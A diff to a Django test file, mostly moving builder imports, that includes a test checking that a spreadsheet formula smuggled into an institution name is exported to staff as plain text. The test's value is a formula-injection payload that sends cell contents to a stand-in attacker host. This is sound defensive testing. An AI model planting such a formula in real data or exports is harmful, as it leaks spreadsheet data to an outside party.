@@ -5,7 +5,7 @@ import pytest
 from django.contrib.auth.models import User
 
 from api.models import StaffExportRecord
-from conftest import a_confirmed_signature, a_live_pledge, signed_in_as_staff
+from tests.builders import a_confirmed_signature, a_live_pledge, signed_in_as_staff
 
 pytestmark = pytest.mark.django_db
 
@@ -50,7 +50,7 @@ def test_the_export_is_for_staff_with_permission_only(client):
 
 
 def test_an_institution_name_a_spreadsheet_would_run_reaches_staff_as_text(admin_client):
-    from conftest import an_institution
+    from tests.builders import an_institution
 
     attack = '=HYPERLINK("http://attacker.example/?"&A2,"Click")'
     pledge = a_live_pledge(institution=an_institution(name=attack))
